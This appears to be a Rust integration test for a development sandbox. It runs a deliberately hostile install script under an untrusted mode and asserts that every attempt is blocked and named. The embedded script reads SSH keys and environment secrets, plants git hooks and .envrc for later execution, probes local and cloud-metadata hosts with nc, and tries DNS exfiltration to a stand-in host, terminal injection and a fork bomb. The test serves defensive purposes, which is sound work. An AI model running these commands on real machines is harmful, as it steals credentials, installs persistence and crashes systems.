//! A repository of somebody hostile, run under `--untrusted`: what its install script tries, what comes of it, and what is
//! told.

use std::fs;
use std::io::Read;
use std::net::TcpListener;
use std::time::{Duration, Instant};

use crate::harness::{Test, probes};

/// What the script prints of what it could do.
const INSTALL: &str = r#"
took() { echo "TOOK $1"; }
# keys and variables
cat ~/.ssh/id_ed25519 2>/dev/null && took keys
grep -rqs s3cret /proc/[0-9]*/environ && took variables
[ -n "$GITHUB_TOKEN$SSH_AUTH_SOCK" ] && took variables
# something to run later, on the other side
mkdir -p .git/hooks && echo 'touch /tmp/taken' >.git/hooks/post-checkout && chmod +x .git/hooks/post-checkout
echo 'touch /tmp/taken' >.envrc
# out
for host in 127.0.0.1 10.0.2.2 169.254.169.254; do
  echo hello | nc -w 1 $host "$PORT" 2>/dev/null | grep -q . && took "an answer from $host"
done
nslookup "$(hostname).collect.example" 2>/dev/null | grep -A 9 Name: | grep -q Address && took "a question"
# typing on the caller's terminal
/probe tiocsti tiocsti-high tioclinux | grep fail && took terminal
# the tool itself
for exe in /proc/[0-9]*/exe; do (: >>$exe) 2>/dev/null && took "the program $exe"; done
# rights
mount -t tmpfs none /mnt 2>/dev/null && took mounts
unshare -U true 2>/dev/null && took namespaces
echo installed >node_modules
# the machine, at last
bomb() { bomb | bomb & }
(bomb) 2>/dev/null
exit 0
"#;

#[test]
fn nothing_is_taken_and_all_is_named() {
    needs!(boxes, images, compiler);
    let test = Test::busybox();
    let volume = format!("{}:/probe:ro", probes::build(&test.path("")).display());
    test.write("home/.ssh/id_ed25519", "s3cret key\n");
    test.write("home/work/package.json", "{}\n");
    test.write("home/work/.git/config", "[core]\n");
    test.write("home/work/install.sh", INSTALL);
    let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port().to_string();

    let began = Instant::now();
    let (allow, port) = (format!("registry.example:{port}"), format!("PORT={port}"));
    let flags = ["--allow", &allow, "-v", &volume, "-e", &port, "--limit", "pids=100", "--limit", "time=60s"];
    let run = test.devbox([&["run", "--untrusted"], &flags[..], &["--", "sh", "install.sh"]].concat());
    let said = run.env("GITHUB_TOKEN", "s3cret").env("SSH_AUTH_SOCK", "/s3cret").output();
    assert!(!said.text().contains("TOOK"), "{said}");
    assert!(began.elapsed() < Duration::from_secs(60), "the bomb went off");
    said.fails(0).says(&["refused in the box", ".git/hooks/post-checkout", "to be named"]);

    // nobody called
    assert!(listener.accept().is_err(), "a connection came");
    // each attempt that was refused has its name
    let why = test.devbox(["why"]).output().ok().text();
    for what in ["ioctl(2) TIOCSTI", "mount(2)", "unshare(2) of a new user namespace", "collect.example"] {
        assert!(why.contains(what), "{what}: {why}");
    }
    test.devbox(["why", "--path", "../.ssh/id_ed25519"]).output().ok().lists(&["not in the box"]);

    let read = |name: &str| fs::read_to_string(test.project().join(name)).unwrap();
    // what it was run for is taken, what runs later is not
    test.devbox(["apply"]).output().ok().says(&[".envrc"]);
    assert_eq!(read("node_modules"), "installed\n");
    assert!(!test.project().join(".git/hooks").exists() && !test.project().join(".envrc").exists());
    assert_eq!(read(".git/config"), "[core]\n");
    test.devbox(["discard"]).output().ok();
    assert_eq!(test.devbox(["diff"]).output().ok().text(), "");
    let mut own = Vec::new();
    fs::File::open(crate::harness::test::binary()).unwrap().read_to_end(&mut own).unwrap();
    assert_eq!(&own[..4], b"\x7fELF");
}
